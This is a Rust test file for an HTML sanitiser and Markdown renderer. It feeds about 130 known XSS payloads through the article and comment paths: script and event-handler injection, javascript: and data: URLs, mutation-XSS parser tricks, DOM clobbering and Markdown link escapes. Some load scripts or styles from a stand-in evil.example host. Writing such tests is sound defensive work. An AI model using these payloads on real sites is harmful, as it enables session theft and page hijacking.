//! Known attacks on sanitisers and Markdown renderers, sent through every door.

use super::walk::{ARTICLE, COMMENT};
use super::{article, comment, sanitise};

#[test]
fn no_attack_gets_through() {
    assert!(ATTACKS.len() >= 60);
    for attack in ATTACKS {
        for text in [
            (*attack).to_owned(),
            format!("a {attack} b"),
            format!("> - {attack}\n\n{attack}"),
        ] {
            let page = article(&text, &["www.youtube.com".to_owned()]).html;
            ARTICLE.check(&page);
            assert_eq!(sanitise::article(&page), page, "{attack}");
            let reply = comment(&text).html;
            COMMENT.check(&reply);
            assert_eq!(sanitise::comment(&reply), reply, "{attack}");
        }
    }
}

#[test]
fn the_sanitiser_needs_nobody_before_it() {
    for attack in ATTACKS {
        let page = sanitise::article(attack);
        ARTICLE.check(&page);
        assert_eq!(sanitise::article(&page), page, "{attack}");
        let reply = sanitise::comment(attack);
        COMMENT.check(&reply);
        assert_eq!(sanitise::comment(&reply), reply, "{attack}");
    }
}

#[test]
fn a_reply_shows_html_as_typed() {
    for attack in [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<b>x</b>",
    ] {
        assert_eq!(comment(attack).text, attack);
    }
}

const ATTACKS: &[&str] = &[
    // Plain ones.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" onload=alert(2)>",
    "<img/src=x/onerror=alert(1)>",
    "<img \u{c}src=x\u{c}onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></use></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html manifest=//evil.example/x>",
    "<xss style=animation-name:x onanimationstart=alert(1)>",
    "<a href=x ping=//evil.example target=_blank download>x</a>",
    "<template><script>alert(1)</script></template>",
    "<dialog open onclose=alert(1)>x</dialog>",
    // Clobbering and posing as the page.
    "<img name=body src=x><form id=document><input name=cookie></form>",
    "<a id=location href=x>x</a><p id=fn-1 class=credit>x</p>",
    "<h2 id=h-x>a</h2><li id=fn-1>b</li><sup id=fnref-1>c</sup>",
    "<figure data-embed=\"https://evil.example/\">x</figure>",
    "<figure data-embed=\"javascript:alert(1)\">x</figure>",
    "<section class=\"footnotes evil\">x</section>",
    // Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\nascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=\"//evil.example\">x</a><a href=\"/\\evil.example\">y</a>",
    "<a href=blob:https://a.example/1>x</a><a href=file:///etc/passwd>y</a>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=mailto:a@b.example>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    // HTML that changes when it is read a second time.
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><math href=javascript:alert(1)>x</math>",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><foreignObject><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><selectedcontent><img src=x onerror=alert(1)></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version=\"1.0\"?><?x <img src=x onerror=alert(1)>?>",
    "<!DOCTYPE html [<!ENTITY x \"<img src=x onerror=alert(1)>\">]>&x;",
    "<abbr title=\"`><img src=x onerror=alert(1)>\">x</abbr>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<abbr title=\"&lt;/abbr>&lt;img src=x onerror=alert(1)>\">x</abbr>",
    "<table><a href=1><tr><td><a href=2>x</table>y",
    "<b><p><b><p><i></b>x</i><a><div><a>y",
    "<p><button><p>x</button><ruby><rt><rt><rp>x",
    "<pre>\n\n\n\n\n\n<b>\n\n\n\nx</pre>",
    "<table><table><caption><td>a<th>b<tr>c<col>d</caption>",
    "<li><ul><li></ol></li><dd><dt><dd><h1><h2>x</h1></h2>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;",
    "<\u{0}script>alert(1)</\u{0}script>",
    "<img src=x onerror=alert(1)",
    "<a href=\"https://a.example\" title=\"<script>",
    "\u{feff}\u{feff}<b>\u{2028}\u{fffe}\u{1}&#0;&#x80;&#13;&#xD800;</b>",
    // Markdown.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) \"t\")",
    "[x](<javascript:alert(1)>)",
    "[x](  javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://a.example/\"onerror=\"alert(1))",
    "![x](https://a.example/x.png \"\"\\\"onerror=alert(1)\")",
    "![x](https://a.example/x.png '\"><script>alert(1)</script> | \"><script>')",
    "![<script>alert(1)</script>](https://a.example/x.png)",
    "[x](https://a.example/'onclick='alert(1))",
    "[x](https://a.example \"\" onclick=alert(1) \"\")",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[<a href=javascript:alert(1)>x</a>](https://a.example)",
    "<a href=\"https://a.example\">[x](https://b.example)</a>",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "[^x\"><script>]: <script>alert(1)</script>\n\na[^x\"><script>]",
    "# <img src=x onerror=alert(1)> {#x .y onclick=z}",
    "a|b\n-|-\n<script>|alert(1)</script>\n<td onclick=x>|</table><img src=x onerror=alert(1)>",
    "https://www.youtube.com/\"onload=alert(1)",
    "<https://www.youtube.com/'><script>alert(1)</script>>",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/&quot;onclick=alert(1)",
    "<div>\n\n[x](javascript:alert(1))\n\n</div><script>\n\nalert(1)\n\n</script>",
    "*<b*>x</b>* **<i**>y",
    "&#x3C;img src=x onerror=alert(1)&#x3E; \\<img src=x onerror=alert(1)\\>",
];
